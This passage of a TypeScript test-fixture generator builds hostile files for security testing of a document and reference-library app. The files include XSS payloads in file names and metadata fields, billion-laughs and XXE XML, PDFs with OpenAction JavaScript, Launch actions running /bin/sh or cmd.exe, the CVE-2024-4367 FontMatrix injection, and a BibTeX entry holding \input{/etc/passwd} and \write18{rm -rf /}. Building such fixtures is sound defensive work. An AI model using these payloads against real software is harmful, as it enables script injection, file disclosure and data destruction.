    [`${'b'.repeat(1_000)}.txt`, () => text('Upload named with a thousand characters')],
    [`<img src=x onerror="${scriptFor('upload-name-img')}">.html`, () => html('img name')],
    [`"><svg onload="${scriptFor('upload-name-svg')}">.html`, () => html('svg name')],
    [`javascript:${scriptFor('upload-name-javascript')}.html`, () => html('javascript name')],
    ['line one\nline two\r\n.txt', () => text('Upload named over two lines')],
    ['CON.txt', () => text('Upload named as a Windows device')],
    ['.txt', () => text('Upload named only an extension')],
    ['trailing-dot.txt.', () => text('Upload named with a trailing dot')],
    ['%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt', () => text('Upload named with percent escapes')],
    [
      `z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a${'\u0336'.repeat(300)}.txt`,
      () => text('Upload named with combining marks'),
    ],
    ['lone-\uD800-surrogate.txt', () => text('Upload named with a lone surrogate')],
    ['../', () => text('Upload named only dot-dot')],
  ];
  for (const [name, make] of names) add('upload-name', name, make);
}

function xmlEntityCases(add: Add, full: boolean): void {
  const levels = full ? 9 : 3;
  add('xml-entity', 'xml-entity-billion-laughs.epub', () => billionLaughsEpub(levels));
  add('xml-entity', 'xml-entity-billion-laughs.docx', () => billionLaughsDocx(levels));
  add('xml-entity', 'xml-entity-xxe.epub', () => xxeEpub());
  add('xml-entity', 'xml-entity-xxe.docx', () => xxeDocx());
  add('xml-entity', 'xml-entity-deep.epub', () => deepXmlEpub(full ? 100_000 : 500));
  add('xml-entity', 'xml-entity-deep.docx', () => deepXmlDocx(full ? 100_000 : 500));
  add('xml-entity', 'xml-entity-billion-laughs.html', () => {
    const entities = ['<!ENTITY lol0 "lol">'];
    for (let level = 1; level <= levels; level += 1)
      entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
    return `<!DOCTYPE html [${entities.join('')}]><html><head><title>Laughing page</title></head><body><article><p>${proseFor('laugh', 5)}</p><p>&lol${levels};</p></article></body></html>`;
  });
  add('xml-entity', 'xml-entity-opf-laughs.epub', () => {
    const entities = ['<!ENTITY lol0 "lol">'];
    for (let level = 1; level <= levels; level += 1)
      entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
    const opf =
      `<?xml version="1.0" encoding="utf-8"?><!DOCTYPE package [${entities.join('')}]><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="uid">` +
      `<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lol${levels};</dc:title><dc:identifier id="uid">x</dc:identifier></metadata>` +
      '<manifest><item id="c0" href="text/ch0.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="c0"/></spine></package>';
    return writeZip([
      { name: 'mimetype', content: 'application/epub+zip' },
      { name: 'META-INF/container.xml', content: containerXml() },
      { name: CONTAINER_PATH, content: opf },
      { name: 'OEBPS/text/ch0.xhtml', content: chapterXhtml(`<p>${proseFor('opf-laughs', 3)}</p>`) },
    ]);
  });
  add('xml-entity', 'xml-entity-container-xxe.epub', () =>
    writeZip([
      { name: 'mimetype', content: 'application/epub+zip' },
      {
        name: 'META-INF/container.xml',
        content: `<?xml version="1.0"?><!DOCTYPE container [<!ENTITY p SYSTEM "${remoteFor('xml-entity-container-xxe.epub')}">]><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="&p;" media-type="application/oebps-package+xml"/></rootfiles></container>`,
      },
      { name: CONTAINER_PATH, content: '<package/>' },
    ]),
  );
}

// ---------------------------------------------------------------------------------------------------
// PDF

function basePdf(
  name: string,
  info: Record<string, string> = { Title: `A hostile PDF ${name}`, Author: 'Mallory' },
): Uint8Array {
  const paragraphs = [proseFor(name, 6), proseFor(`${name}:2`, 6), proseFor(`${name}:3`, 6)];
  return makePdf({ pages: layoutPages(paragraphs).slice(0, 2), info });
}

function latin1(bytes: Uint8Array): string {
  return Buffer.from(bytes).toString('latin1');
}

function fromLatin1(text: string): Uint8Array {
  return new Uint8Array(Buffer.from(text, 'latin1'));
}

/** A PDF of raw object bodies (object i + 1 is bodies[i], catalog first), with a correct xref table. */
function rawPdf(bodies: readonly string[], trailerExtra = ''): Uint8Array {
  let out = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';
  const offsets: number[] = [];
  bodies.forEach((body, index) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R${trailerExtra} >>\nstartxref\n${xref}\n%%EOF\n`;
  return fromLatin1(out);
}

const PDF_FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** A one-page PDF with `catalogExtra` in its catalog and `pageExtra` in its page (text included). */
function pdfWith(
  name: string,
  options: { catalogExtra?: string; pageExtra?: string; more?: string[]; fontBody?: string } = {},
): Uint8Array {
  const text = `BT /F1 12 Tf 72 720 Td (${proseFor(name, 1).replace(/[()\\]/g, '')}) Tj ET`;
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R${options.catalogExtra ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R${options.pageExtra ?? ''} >>`,
    options.fontBody ?? PDF_FONT,
    `<< /Length ${text.length} >>\nstream\n${text}\nendstream`,
    ...(options.more ?? []),
  ]);
}

/** A PDF literal string of `text` (parentheses and backslashes escaped). */
function pdfLiteral(text: string): string {
  return `(${text.replace(/[()\\]/g, (char) => `\\${char}`)})`;
}

function pdfCases(add: Add, full: boolean): void {
  const cases: [string, () => Uint8Array | string][] = [
    [
      'truncated-half',
      () => basePdf('truncated-half').slice(0, Math.floor(basePdf('truncated-half').byteLength / 2)),
    ],
    ['truncated-header', () => basePdf('truncated-header').slice(0, 12)],
    [
      'no-xref',
      () => {
        const text = latin1(basePdf('no-xref'));
        return fromLatin1(text.slice(0, text.indexOf('xref')));
      },
    ],
    [
      'garbage-xref',
      () => fromLatin1(latin1(basePdf('garbage-xref')).replace(/\d{10} 00000 n/g, '9999999999 00000 n')),
    ],
    [
      'xref-random-bytes',
      () => {
        const random = seededRandom(41);
        const text = latin1(basePdf('xref-random-bytes'));
        const at = text.indexOf('xref');
        const garbage = Array.from({ length: 400 }, () =>
          String.fromCharCode(Math.floor(random() * 256)),
        ).join('');
        return fromLatin1(text.slice(0, at) + garbage);
      },
    ],
    [
      'wrong-length-long',
      () => fromLatin1(latin1(basePdf('wrong-length-long')).replace(/\/Length \d+/g, '/Length 99999999')),
    ],
    [
      'wrong-length-short',
      () => fromLatin1(latin1(basePdf('wrong-length-short')).replace(/\/Length \d+/g, '/Length 3')),
    ],
    [
      'negative-length',
      () => fromLatin1(latin1(basePdf('negative-length')).replace(/\/Length \d+/g, '/Length -40')),
    ],
    [
      'startxref-past-end',
      () =>
        fromLatin1(latin1(basePdf('startxref-past-end')).replace(/startxref\n\d+/, 'startxref\n999999999')),
    ],
    ['encrypted-flag', () => makePdf({ pages: layoutPages([proseFor('enc', 6)]), encrypted: true })],
    ['encrypted-owner-password', () => encryptPdf(basePdf('encrypted-owner-password'))],
    [
      'info-payloads',
      () => {
        const name = 'pdf-info-payloads.pdf';
        return basePdf(name, {
          Title: `<img src=x onerror="${scriptFor(name)}">`,
          Author: `<script>${scriptFor(name)}</script>; Mallory`,
          Subject: `javascript:${scriptFor(name)}`,
          Keywords: remoteFor(name),
        });
      },
    ],
    [
      'xmp-payloads',
      () => {
        const name = 'pdf-xmp-payloads.pdf';
        const xmp =
          `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY r SYSTEM "${remoteFor(name)}.ent"><!ENTITY l0 "lol"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;&l1;">]>` +
          '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">' +
          `<dc:title><rdf:Alt><rdf:li xml:lang="x-default">${xmlEscape(`<img src=x onerror="${scriptFor(name)}">`)} &r; &l2;</rdf:li></rdf:Alt></dc:title>` +
          `<dc:creator><rdf:Seq><rdf:li>${xmlEscape(`<script>${scriptFor(name)}</script>`)}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
        return makePdf({ pages: layoutPages([proseFor(name, 6)]), xmp });
      },
    ],
    [
      'openaction-javascript',
      () =>
        pdfWith('openaction', {
          catalogExtra: ` /OpenAction << /S /JavaScript /JS ${pdfLiteral(scriptFor('pdf-openaction-javascript.pdf'))} >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${pdfLiteral('app.alert(1)')} >>] >> >>`,
        }),
    ],
    [
      'uri-annotation',
      () =>
        pdfWith('uri', {
          pageExtra: ' /Annots [6 0 R]',
          more: [
            `<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /URI /URI ${pdfLiteral(remoteFor('pdf-uri-annotation.pdf'))} >> >>`,
          ],
        }),
    ],
    [
      'launch-action',
      () =>
        pdfWith('launch', {
          catalogExtra: ' /OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>',
        }),
    ],
    [
      'submitform-action',
      () =>
        pdfWith('submit', {
          catalogExtra: ` /AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F ${pdfLiteral(remoteFor('pdf-submitform-action.pdf'))} >> >>`,
        }),
    ],
    [
      'font-matrix-injection',
      () =>
        // A FontMatrix that would be compiled into glyph-drawing code by a reader that evaluates it (CVE-2024-4367).
        pdfWith('font-matrix', {
          fontBody: `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix [0.001 0 0 0.001 0 (0\\); ${scriptFor('pdf-font-matrix-injection.pdf').replace(/[()]/g, (c) => `\\${c}`)}//)] /FontDescriptor << /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >> >>`,
        }),
    ],
    [
      'circular-page-tree',
      () =>
        rawPdf([
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>',
          '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
        ]),
    ],
    [
      'huge-count',
      () => fromLatin1(latin1(basePdf('huge-count')).replace(/\/Count \d+/, '/Count 2147483647')),
    ],
    ['shared-page-tree', () => sharedPageTreePdf(full ? 21 : 10)],
    ['flate-bomb', () => flateBombPdf(full ? 1024 ** 3 : 8 * 1024 ** 2)],
    [
      'not-a-pdf-html',
      () => `<html><body><script>${scriptFor('pdf-not-a-pdf-html.pdf')}</script></body></html>`,
    ],
    [
      'html-polyglot',
      () => {
        const text = latin1(basePdf('polyglot'));
        return fromLatin1(
          text.replace('%PDF-1.4\n', `%PDF-1.4\n%<script>${scriptFor('pdf-html-polyglot.pdf')}</script>\n`),
        );
      },
    ],
    [
      'garbage-object-stream',
      () =>
        pdfWith('objstm', {
          more: ['<< /Type /ObjStm /N 1000000 /First 99999 /Length 10 >>\nstream\n0123456789\nendstream'],
        }),
    ],
  ];
  for (const [slug, make] of cases) add('pdf', `pdf-${slug}.pdf`, make);
}

// ---------------------------------------------------------------------------------------------------
// Encodings

function encodingCases(add: Add, full: boolean): void {
  const words = (name: string): string => proseFor(name, 4);
  const js = scriptFor;
  const cases: [string, () => Uint8Array | string][] = [
    [
      'txt-invalid-utf8.txt',
      () =>
        bytesOf(
          `Invalid bytes\n\n${words('a')} `,
          [0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1],
          ` ${words('b')}\n`,
        ),
    ],
    [
      'txt-overlong-lt.txt',
      () =>
        bytesOf(
          'Overlong encodings\n\n',
          [0xc0, 0xbc],
          'script',
          [0xc0, 0xbe],
          [0xc0, 0xbc],
          '/script',
          [0xe0, 0x80, 0xbc],
          ` ${words('c')}\n`,
        ),
    ],
    [
      'txt-utf8-surrogates.txt',
      () => bytesOf('Encoded surrogates\n\n', [0xed, 0xa0, 0x80, 0xed, 0xbf, 0xbf], ` ${words('d')}\n`),
    ],
    [
      'txt-utf16le-odd.txt',
      () =>
        bytesOf(
          [0xff, 0xfe],
          Array.from(
            Buffer.from(
              `UTF-16 with an odd length\n\n<script>${js('encoding-txt-utf16le-odd.txt')}</script> ${words('e')}`,
              'utf16le',
            ),
          ),
          [0x41],
        ),
    ],
    [
      'txt-utf16be.txt',
      () => {
        const le = Buffer.from(
          `Big-endian text\n\n<img src=x onerror="${js('encoding-txt-utf16be.txt')}"> ${words('f')}\n`,
          'utf16le',
        );
        const be = Buffer.from(le);
        be.swap16();
        return bytesOf([0xfe, 0xff], be);
      },
    ],
    [
      'txt-bom-latin1.txt',
      () =>
        bytesOf(
          [0xef, 0xbb, 0xbf],
          'A BOM then Latin-1\n\n',
          [0x63, 0x61, 0x66, 0xe9, 0x20, 0xfc, 0x62, 0x65, 0x72],
          ` ${words('g')}\n`,
        ),
    ],
    [
      'txt-nul-bytes.txt',
      () =>
        bytesOf('NUL bytes\n\n', ...Array.from({ length: 20 }, (_, i) => bytesOf([0], ` word${i} `)), '\n'),
    ],
    ['txt-cr-only.txt', () => `Old Mac line endings\r\r${words('h')}\r\r${words('i')}\r`],
    [
      'txt-bidi-overrides.txt',
      () =>
        `Bidirectional tricks \u202Egnp.exe\u202C\n\n${words('j')} \u2066\u2067\u2068 \u200B\u200C\u200D\uFEFF \u061C ${words('k')}\n`,
    ],
    ['txt-only-bom.txt', () => bytesOf([0xef, 0xbb, 0xbf])],
    ['txt-empty.txt', () => new Uint8Array(0)],
    [
      'txt-binary.txt',
      () => {
        const random = seededRandom(77);
        return Uint8Array.from({ length: 4096 }, () => Math.floor(random() * 256));
      },
    ],
    ['txt-long-line.txt', () => `A very long line\n\n${'word '.repeat(full ? 4_000_000 : 40_000)}\n`],
    [
      'html-meta-utf7.html',
      () =>
        htmlPage(
          'encoding-html-meta-utf7.html',
          `+ADw-script+AD4-${js('encoding-html-meta-utf7.html')}+ADw-/script+AD4- +ADw-img src=x onerror=+ACI-${js('encoding-html-meta-utf7.html')}+ACI-+AD4-`,
          { head: '<meta charset="utf-7">' },
        ),
    ],
    [
      'html-meta-x-user-defined.html',
      () =>
        bytesOf(
          htmlPage('x-user-defined', '<p>Declared x-user-defined.</p>', {
            head: '<meta charset="x-user-defined">',
          }).replace('<meta charset="utf-8">', ''),
          [0x80, 0xff],
        ),
    ],
    [
      'html-meta-latin1-lie.html',
      () =>
        htmlPage('latin1-lie', `<p>Declared Latin-1, written UTF-8: ${'é ü ß — “quotes” '.repeat(5)}</p>`, {
          head: '<meta charset="iso-8859-1">',
        }).replace('<meta charset="utf-8">', ''),
    ],
    [
      'html-bom-vs-meta.html',
      () =>
        bytesOf(
          [0xff, 0xfe],
          Buffer.from(
            htmlPage(
              'bom-vs-meta',
              `<p>BOM says UTF-16.</p><script>${js('encoding-html-bom-vs-meta.html')}</script>`,
            ),
            'utf16le',
          ),
        ),
    ],
    [
      'html-invalid-utf8-attribute.html',
      () => {
        const name = 'encoding-html-invalid-utf8-attribute.html';
        const [before, after] = htmlPage(
          name,
          '<p><a href="java@@script:SCRIPT">split by bad bytes</a></p>',
        ).split('@@');
        return bytesOf(before ?? '', [0xff, 0xc0], (after ?? '').replace('SCRIPT', js(name)));
      },
    ],
    [
      'html-shift-jis-quote.html',
      () => {
        const name = 'encoding-html-shift-jis-quote.html';
        const [before, after] = htmlPage(
          name,
          `<img alt="@@" src=x onerror="${js(name)}"><p>Lead byte eats the quote.</p>`,
          { head: '<meta charset="shift_jis">' },
        )
          .replace('<meta charset="utf-8">', '')
          .split('@@');
        return bytesOf(before ?? '', [0x81], after ?? '');
      },
    ],
    [
      'html-iso-2022-jp-escape.html',
      () => {
        const name = 'encoding-html-iso-2022-jp-escape.html';
        const [before, after] = htmlPage(
          name,
          `<a href="https://example.org/@@" onmouseover="${js(name)}">escape sequences</a>`,
          { head: '<meta charset="iso-2022-jp">' },
        )
          .replace('<meta charset="utf-8">', '')
          .split('@@');
        return bytesOf(before ?? '', [0x1b, 0x24, 0x42], '"', [0x1b, 0x28, 0x42], after ?? '');
      },
    ],
    [
      'html-http-equiv-utf16.html',
      () =>
        htmlPage('http-equiv', '<p>Declares UTF-16 in ASCII.</p>', {
          head: '<meta http-equiv="Content-Type" content="text/html; charset=utf-16">',
        }).replace('<meta charset="utf-8">', ''),
    ],
    [
      'md-invalid-utf8.md',
      () =>
        bytesOf(
          '# Invalid Markdown\n\n',
          [0xff, 0xfe, 0xfd],
          `\n\n<script>${js('encoding-md-invalid-utf8.md')}</script> ${words('l')}\n`,
        ),
    ],
    ['md-latin1.md', () => bytesOf('# Latin-1 Markdown\n\n', [0x63, 0x61, 0x66, 0xe9], ` ${words('m')}\n`)],
    [
      'md-utf16-bom.md',
      () =>
        bytesOf(
          [0xff, 0xfe],
          Buffer.from(
            `# UTF-16 Markdown\n\n[x](javascript:${js('encoding-md-utf16-bom.md')}) ${words('n')}\n`,
            'utf16le',
          ),
        ),
    ],
  ];
  for (const [slug, make] of cases) add('encoding', `encoding-${slug}`, make);
}

// ---------------------------------------------------------------------------------------------------
// Reference files

/** `depth` nested arrays around `inner`. */
function deepArray(depth: number, inner = '"bottom"'): string {
  return `${'['.repeat(depth)}${inner}${']'.repeat(depth)}`;
}

/** `depth` nested objects around `inner`. */
function deepObject(depth: number, inner = '"bottom"'): string {
  return `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`;
}

function cslJsonCases(add: Add, full: boolean): void {
  const depth = full ? 100_000 : 2_000;
  const item = (name: string, extra: Record<string, unknown> = {}): Record<string, unknown> => ({
    id: name,
    type: 'article-journal',
    title: `Reference ${name}`,
    author: [{ family: 'Mallory', given: 'Eve' }],
    issued: { 'date-parts': [[2024]] },
    ...extra,
  });
  const cases: [string, () => string | Uint8Array][] = [
    [
      'payload-fields',
      () => {
        const name = 'csl-json-payload-fields.json';
        const js = scriptFor(name);
        return JSON.stringify([
          item(name, {
            title: `<img src=x onerror="${js}">`,
            author: [
              { family: `<script>${js}</script>`, given: `<svg onload="${js}">` },
              { literal: `<iframe src="javascript:${js}">` },
            ],
            'container-title': `<a href="javascript:${js}">journal</a>`,
            publisher: `<b onclick="${js}">press</b>`,
            URL: `javascript:${js}`,
            DOI: `10.1000/"><img src=x onerror="${js}">`,
            ISBN: `<script>${js}</script>`,
            abstract: `<style>@import url(${remoteFor(name)}.css)</style>`,
            note: `[x](javascript:${js}) ![y](${remoteFor(name)}.png)`,
          }),
        ]);
      },
    ],
    [
      'remote-url',
      () =>
        JSON.stringify([
          item('csl-json-remote-url.json', {
            URL: remoteFor('csl-json-remote-url.json'),
            title: 'A reference with a remote URL',
          }),
        ]),
    ],
    ['deep-array', () => deepArray(depth)],
    ['deep-object', () => deepObject(depth)],
    // Deep enough to overflow a recursive copy, shallow enough for the import to read it.
    [
      'deep-field',
      () => `[{"id":"deep","type":"book","title":"A deeply nested field","custom":${deepArray(4_000)}}]`,
    ],
    [
      'deep-object-field',
      () =>
        `[{"id":"deep2","type":"book","title":"A deeply nested object field","custom":${deepObject(depth)}}]`,
    ],
    [
      'deeper-field',
      () =>
        `[{"id":"deeper","type":"book","title":"A field nested deeper still","custom":${deepArray(full ? 1_000_000 : 20_000)}}]`,
    ],
    ['deep-title', () => `[{"id":"deep3","type":"book","title":${deepArray(depth)}}]`],
    ['many-items', () => cslJsonFile(full ? 10_000 : 40)],
    [
      'proto-pollution',
      () =>
        '[{"id":"proto","type":"book","title":"Prototype keys","__proto__":{"polluted":"yes","title":"polluted title"},"constructor":{"prototype":{"polluted":"yes"}}}]',
    ],
    [
      'proto-author',
      () =>
        '[{"id":"proto2","type":"book","title":"Prototype authors","author":[{"__proto__":{"polluted":"yes"},"family":"Proto"}]}]',
    ],
    [
      'wrong-types',
      () =>
        JSON.stringify([
          item('wrong', { title: 12345, author: 'not a list', issued: 'yesterday', type: { evil: true } }),
          item('wrong2', { title: ['a', 'b'], author: [null, 1, 'x'] }),
        ]),
    ],
    ['not-array', () => JSON.stringify({ items: [item('not-array')] })],
    ['null', () => 'null'],
    ['string', () => '"just a string"'],
    ['empty-array', () => '[]'],
    ['junk-items', () => '[null, 1, "x", true, [], {}]'],
    ['truncated', () => JSON.stringify([item('truncated'), item('truncated2')]).slice(0, 90)],
    ['bom', () => `\uFEFF${JSON.stringify([item('csl-json-bom.json')])}`],
    [
      'long-title',
      () => JSON.stringify([item('long', { title: `Long ${'title '.repeat(full ? 200_000 : 20_000)}` })]),
    ],
    [
      'many-authors',
      () =>
        JSON.stringify([
          item('authors', {
            author: Array.from({ length: full ? 10_000 : 1_000 }, (_, i) => ({
              family: `Author${i}`,
              given: 'A.',
            })),
          }),
        ]),
    ],
    [
      'control-characters',
      () =>
        JSON.stringify([
          item('control', {
            title: 'Nul \u0000 bell \u0007 escape \u001b[31m red \ud800 lone',
            author: [{ family: '\u202Eevil\u202C' }],
          }),
        ]),
    ],
    [
      'huge-numbers',
      () =>
        '[{"id":"num","type":"book","title":"Huge numbers","issued":{"date-parts":[[1e309, -99999999999999, 1.5]]},"page":1e400}]',
    ],
    [
      'duplicate-keys',
      () =>
        '[{"id":"dup","type":"book","title":"First","title":"<img src=x onerror=\\"window.__scholiaPwned(\'csl-json-duplicate-keys.json\')\\">"}]',
    ],
  ];
  for (const [slug, make] of cases) add('csl-json', `csl-json-${slug}.json`, make);
}

function bibtexCases(add: Add, full: boolean): void {
  const depth = full ? 50_000 : 500;
  const cases: [string, () => string | Uint8Array][] = [
    [
      'payload-fields',
      () => {
        const name = 'bibtex-payload-fields.bib';
        const js = scriptFor(name);
        return `@article{payload,\n  title = {<img src=x onerror="${js}">},\n  author = {<script>${js}</script> and Mallory, Eve},\n  journal = {<svg onload="${js}">},\n  url = {javascript:${js}},\n  doi = {10.1000/"><img src=x onerror="${js}">},\n  year = {2024}\n}\n`;
      },
    ],
    [
      'latex-commands',
      () =>
        `@article{latex,\n  title = {\\input{/etc/passwd} \\include{/etc/shadow} \\write18{rm -rf /}},\n  author = {\\url{javascript:${scriptFor('bibtex-latex-commands.bib')}}},\n  note = {\\href{${remoteFor('bibtex-latex-commands.bib')}}{click}},\n  year = {2024}\n}\n`,
    ],
    ['unterminated', () => '@article{open,\n  title = {An unterminated title,\n  author = {Mallory, Eve\n'],
    [
      'deep-braces',
      () =>
        `@article{deep,\n  title = {${'{'.repeat(depth)}bottom${'}'.repeat(depth)}},\n  year = {2024}\n}\n`,
    ],
    [
      'string-recursion',
      () =>
        '@string{a = a # a}\n@string{b = c}\n@string{c = b # b}\n@article{rec,\n  title = a # b # c,\n  year = {2024}\n}\n',
    ],
    [
      'crossref-loop',
      () =>
        '@book{self,\n  crossref = {self},\n  title = {Refers to itself}\n}\n@book{one,\n  crossref = {two},\n  title = {One}\n}\n@book{two,\n  crossref = {one},\n  title = {Two}\n}\n',
    ],
    [
      'many-authors',
      () =>
        `@book{authors,\n  title = {Many authors},\n  author = {${Array.from({ length: full ? 5_000 : 500 }, (_, i) => `Author${i}, A.`).join(' and ')}}\n}\n`,
    ],
    ['many-entries', () => bibtexFile(full ? 10_000 : 40)],
    [
      'binary',
      () => {
        const random = seededRandom(91);
        return Uint8Array.from({ length: 2048 }, () => Math.floor(random() * 256));
      },
    ],
    [
      'key-payload',
      () =>
        `@article{<img src=x onerror="${scriptFor('bibtex-key-payload.bib')}">,\n  title = {A hostile key}\n}\n`,
    ],
    [
      'nested-accents',
      () =>
        `@book{accents,\n  title = {${'\\"{'.repeat(depth)}a${'}'.repeat(depth)}},\n  author = {M{\\"u}ller and {\\'E}mile}\n}\n`,
    ],
    [
      'comment-preamble',
      () =>
        `@comment{<script>${scriptFor('bibtex-comment-preamble.bib')}</script>}\n@preamble{"\\newcommand{\\evil}{<script>}"}\n@misc{after,\n  title = {After the preamble}\n}\n`,
    ],
    ['no-entries', () => 'This is not BibTeX at all, just words.\n'],
  ];
  for (const [slug, make] of cases) add('bibtex', `bibtex-${slug}.bib`, make);
}

function risCases(add: Add, full: boolean): void {
  const cases: [string, () => string | Uint8Array][] = [
    [
      'payload-fields',
      () => {
        const js = scriptFor('ris-payload-fields.ris');
        return `TY  - JOUR\r\nTI  - <img src=x onerror="${js}">\r\nAU  - <script>${js}</script>\r\nAU  - Mallory, Eve\r\nJO  - <svg onload="${js}">\r\nUR  - javascript:${js}\r\nDO  - 10.1000/"><img src=x onerror="${js}">\r\nPY  - 2024\r\nER  - \r\n`;
      },
    ],
    [
      'remote-url',
      () =>
        `TY  - BOOK\nTI  - A book with a remote link\nUR  - ${remoteFor('ris-remote-url.ris')}\nL1  - ${remoteFor('ris-remote-url.ris', '.pdf')}\nER  - \n`,
    ],
    ['odd-records', () => oddRisFile(full ? 10_000 : 40)],
    ['no-type', () => 'TI  - A record without a type\nAU  - Nobody\nER  - \n'],
    ['only-er', () => 'ER  - \nER  - \nER  - \n'],
    [
      'binary',
      () => {
        const random = seededRandom(93);
        return Uint8Array.from({ length: 2048 }, () => Math.floor(random() * 256));
      },
    ],
    ['long-line', () => `TY  - JOUR\nTI  - ${'long '.repeat(full ? 2_000_000 : 20_000)}\nER  - \n`],
    [
      'many-authors',
      () =>
        `TY  - BOOK\nTI  - Many authors\n${Array.from({ length: full ? 10_000 : 1_000 }, (_, i) => `AU  - Author${i}, A.`).join('\n')}\nER  - \n`,
    ],
  ];
  for (const [slug, make] of cases) add('ris', `ris-${slug}.ris`, make);
}

function cslYamlCases(add: Add): void {
  add(
    'csl-yaml',
    'csl-yaml-payload.yaml',
    () => `- id: yaml\n  type: book\n  title: "<img src=x onerror=${scriptFor('csl-yaml-payload.yaml')}>"\n`,
  );
  add(
    'csl-yaml',
    'csl-yaml-anchors.yml',
    () =>
      'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n',
  );
  add(
    'csl-yaml',
    'csl-yaml-front-matter-references.md',
    () =>
      `---\nreferences:\n- id: a\n  title: "<script>${scriptFor('csl-yaml-front-matter-references.md')}</script>"\n  URL: javascript:x\ntitle: A Markdown file with CSL-YAML references\n---\n\n${proseFor('csl-yaml-refs', 4)}\n`,
  );
  add(
    'csl-yaml',
    'csl-yaml-front-matter-deep.md',
    () =>
      `---\ntitle: Deep front matter\n${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')}\n---\n\n${proseFor('csl-yaml-deep', 4)}\n`,
  );
}

// ---------------------------------------------------------------------------------------------------
// Metadata shown in the library list, the details and the exports

function metadataCases(add: Add, full: boolean): void {
  const cases: [string, (p: Payload) => string | Uint8Array][] = [
    [
      'html-title',
      (p) =>
        htmlPage(p.name, '<p>The title element carries markup.</p>', {
          title: `&lt;img src=x onerror="${p.js}"&gt;<img src=x onerror="${p.js}">`,
        }),
    ],
    [
      'html-citation-title',
      (p) =>
        htmlPage(p.name, '<p>Citation meta tags carry markup.</p>', {
          head: `<meta name="citation_title" content="&lt;img src=x onerror=&quot;${xmlEscape(p.js)}&quot;&gt;"><meta name="citation_author" content="&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;"><meta name="citation_author" content="Mallory, &lt;svg onload=${xmlEscape(p.js)}&gt;">`,
        }),
    ],
    [
      'html-journal-doi',
      (p) =>
        htmlPage(p.name, '<p>A journal and DOI with markup.</p>', {
          head: `<meta name="citation_journal_title" content="&lt;iframe src=javascript:${xmlEscape(p.js)}&gt;"><meta name="citation_doi" content="10.1000/&quot;&gt;&lt;img src=x onerror=${xmlEscape(p.js)}&gt;"><meta name="citation_date" content="&lt;b onclick=${xmlEscape(p.js)}&gt;2024"><meta name="citation_publisher" content="&lt;a href=javascript:${xmlEscape(p.js)}&gt;press&lt;/a&gt;">`,
        }),
    ],
    [
      'html-open-graph',
      (p) =>
        htmlPage(p.name, '<p>Open Graph tags carry markup.</p>', {
          head: `<meta property="og:title" content="&lt;img src=x onerror=${xmlEscape(p.js)}&gt;"><meta property="og:site_name" content="&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;"><meta property="og:url" content="javascript:${xmlEscape(p.js)}"><meta property="og:image" content="${p.url}.png">`,
        }),
    ],
    [
      'html-dublin-core',
      (p) =>
        htmlPage(p.name, '<p>Dublin Core tags carry markup.</p>', {
          head: `<meta name="DC.title" content="&lt;svg onload=${xmlEscape(p.js)}&gt;"><meta name="DC.creator" content="&lt;img src=x onerror=${xmlEscape(p.js)}&gt;"><meta name="author" content="&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;">`,
        }),
    ],
    [
      'html-canonical-javascript',
      (p) =>
        htmlPage(p.name, '<p>The canonical link is a script.</p>', {
          head: `<link rel="canonical" href="javascript:${p.js}">`,
        }),
    ],
    [
      'html-canonical-remote',
      (p) =>
        htmlPage(p.name, '<p>The canonical link is remote.</p>', {
